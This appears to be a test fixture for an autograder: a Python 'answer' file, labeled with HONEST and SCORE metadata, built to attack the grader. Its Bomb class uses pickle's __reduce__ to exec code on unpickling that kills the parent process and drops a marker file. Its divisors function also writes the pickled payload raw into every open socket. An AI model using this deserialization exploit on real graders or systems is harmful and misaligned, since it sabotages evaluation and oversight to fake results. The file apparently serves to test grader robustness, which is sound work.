"""An answer that runs code when it is unpickled, returned and sent raw to the grader's lines."""
HONEST = 'double'
SCORE = 4
# %%
import os
import pickle
import stat
import struct
class Bomb:
    def __reduce__(self): return exec, ('import os; os.kill(os.getppid(), 9); open("/tmp/cm203-pickle-ran", "w").close()',)
# %%
# inverse autograded_answer
def inverse(n, p): return Bomb()
# %%
# divisors autograded_answer
def divisors(n):
    data = pickle.dumps(Bomb())
    for fd in range(3, 64):
        try:
            if not stat.S_ISSOCK(os.fstat(fd).st_mode): continue
            for head in struct.pack('!i', len(data)), struct.pack('<QQ', len(data), 0): os.write(fd, head + data)
        except OSError: pass
    return Bomb()
